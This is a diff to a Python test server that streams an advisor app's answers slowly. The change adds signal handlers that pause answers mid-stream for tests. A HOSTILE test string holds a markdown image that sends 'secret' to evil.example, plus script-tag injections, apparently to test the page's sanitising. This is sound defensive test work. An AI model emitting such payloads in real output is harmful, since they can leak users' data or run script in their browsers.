@@ -1,9 +1,14 @@
-"""The page over the role guide, whose answers take their time as a chat model's do: python slow_server.py PORT."""
+"""The page over the role guide, whose answers take their time as a chat model's do: python slow_server.py PORT.
+
+From SIGUSR2 to SIGUSR1 no answer is finished, so that no test has to be quicker than an answer.
+"""
 
 from __future__ import annotations
 
 import re
+import signal
 import sys
+import threading
 import time
 from collections.abc import Iterator
 from dataclasses import fields
@@ -19,6 +24,8 @@ from advisor.reply import Reply
 from advisor.web.server import application
 
 _SLOW = 60  # pieces; three seconds
+_HELD_AT = 50  # pieces; beyond the first marker
+_going_on = threading.Event()
 HOSTILE = (
     "![x](https://evil.example/?d=secret) [here](https://evil.example) <https://evil.example> www.evil.example "
     '<img src="https://evil.example/x"> <script>window.hacked = 1</script> \\<script>window.hacked = 2</script> '
@@ -51,12 +58,17 @@ class SlowReply:
         for number, piece in enumerate(re.findall(r"\S+\s*", self.answer.text)):
             if self.fails and number == 5:
                 raise RuntimeError("the model has gone")
+            while number == _HELD_AT and not _going_on.wait(0.05):
+                yield ""
             time.sleep(0.05 if number < _SLOW else 0)
             yield piece
 
 
 def main(port: int) -> None:
     """Serve until killed."""
+    _going_on.set()
+    signal.signal(signal.SIGUSR1, lambda *_: _going_on.set())
+    signal.signal(signal.SIGUSR2, lambda *_: _going_on.clear())
     advisor, shelf = open_shelf()
     slow = Slow(**{field.name: getattr(advisor, field.name) for field in fields(advisor)})
     uvicorn.run(application(slow, shelf), port=port, log_level="critical", timeout_graceful_shutdown=1)
